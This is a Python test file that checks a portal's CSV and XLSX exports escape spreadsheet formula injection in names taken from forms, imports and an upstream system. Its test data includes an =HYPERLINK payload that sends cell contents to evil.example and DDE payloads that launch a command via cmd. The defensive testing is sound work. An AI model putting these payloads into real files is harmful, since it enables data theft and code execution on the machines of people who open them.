"""Every CSV and XLSX the portal writes is neutralised against formula injection (OWASP "CSV Injection"):
hostile names coming from Océan (drivers, entities), from forms (customer, template) and from a CSV
import reach the HR exports and the audit export as text, never as a formula."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from privacy.onboarding.services.csv_import import import_csv
from privacy.spreadsheet import safe_cell
from tests.reports.conftest import make_snapshot, row
from tests.reports.test_views import JAN, Q_JAN
from tests.schedules.conftest import DEFAULT_WEEK, grid_post

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Dupont", "Dupont"), ("", ""), ("-12,30", "-12,30"), ("+33 6 12 34 56", "+33 6 12 34 56"),
    (Decimal("-12.30"), Decimal("-12.30")), (-3, -3), (None, None),
])
def test_one_rule_escapes_text_that_starts_a_formula_and_leaves_numbers(value, expected):
    assert safe_cell(value) == expected


def _csv_cells(text: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for cell in line]


def _unsafe(cells) -> list[str]:
    return [c for c in cells if isinstance(c, str) and c.startswith(DANGEROUS) and safe_cell(c) != c]


def _hostile_present(cells) -> bool:
    return any(isinstance(c, str) and any(h in c for h in HOSTILE) for c in cells)


@pytest.fixture
def hostile_report(customer):
    customer.name = HOSTILE[2]  # a customer name typed in the setup form
    customer.save()
    return make_snapshot(customer, JAN, [  # names as Océan's analysis gives them
        row(ocean_id=7001, name=HOSTILE[0], entity_name=HOSTILE[1]),
        row(ocean_id=7002, name=HOSTILE[3], entity_name=HOSTILE[4]),
    ])


def test_the_hr_csv_export_escapes_hostile_names(login, hr, hostile_report):
    response = login(hr).get("/reports/export/", {**Q_JAN, "format": "csv"})
    cells = _csv_cells(response.content.decode())
    assert _hostile_present([c.lstrip("'") for c in cells]), "the names are in the file"
    assert not _unsafe(cells), _unsafe(cells)
    assert "'" + HOSTILE[0] in cells


def test_the_hr_xlsx_export_writes_hostile_names_as_text_never_as_formulas(login, hr, hostile_report):
    response = login(hr).get("/reports/export/", {**Q_JAN, "format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [c for r in sheet.iter_rows() for c in r]
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert not formulas, formulas
    values = [c.value for c in cells]
    assert "'" + HOSTILE[0] in values
    assert not _unsafe(values), _unsafe(values)
    assert any(isinstance(v, (int, float)) and v > 0 for v in values), "numbers stay numbers"


def test_the_audit_export_escapes_names_from_forms_and_csv_imports(sim, login, manager, admin_user, customer):
    response = login(manager).post("/templates/new/", grid_post(DEFAULT_WEEK, name=HOSTILE[0]))
    assert response.status_code == 302
    import_csv(actor=admin_user, customer=customer, filename=HOSTILE[3] + ".csv",
               data=f"matricule;email;role;entity\n{HOSTILE[1]};x@example.com;driver;\n".encode())
    body = b"".join(login(admin_user).get("/audit/export/").streaming_content).decode()
    cells = _csv_cells(body)
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[3] + ".csv" in cells
    assert not _unsafe(cells), _unsafe(cells)


def test_hostile_driver_names_from_the_simulator_reach_the_hr_export_as_text(
        sim, login, hr, customer, monkeypatch, django_capture_on_commit_callbacks):
    """A driver named like a formula in Océan (the simulator), through a real report refresh."""
    from dataclasses import replace

    from privacy.reports.services.ingest import request_refresh
    from tests.conftest import celery_eager
    from tests.reports.conftest import previous_month

    fleet = sim.state.fleet
    drivers = [replace(d, nom=HOSTILE[i]) if i < 3 else d for i, d in enumerate(fleet.drivers)]
    monkeypatch.setattr(fleet, "drivers", drivers)
    monkeypatch.setattr(fleet, "driver_by_id", {d.id: d for d in drivers})
    period = previous_month(customer)
    with celery_eager(), django_capture_on_commit_callbacks(execute=True):
        request_refresh(customer, period)
    query = {"period": "month", "month": period.start.strftime("%Y-%m"), "format": "csv"}
    cells = _csv_cells(login(hr).get("/reports/export/", query).content.decode())
    assert any(HOSTILE[0] in c for c in cells), "the simulator's hostile name is in the file"
    assert not _unsafe(cells), _unsafe(cells)
    sheet = openpyxl.load_workbook(io.BytesIO(login(hr).get("/reports/export/", {**query, "format": "xlsx"}).content))
    assert not [c.value for r in sheet.active.iter_rows() for c in r if c.data_type == "f"]
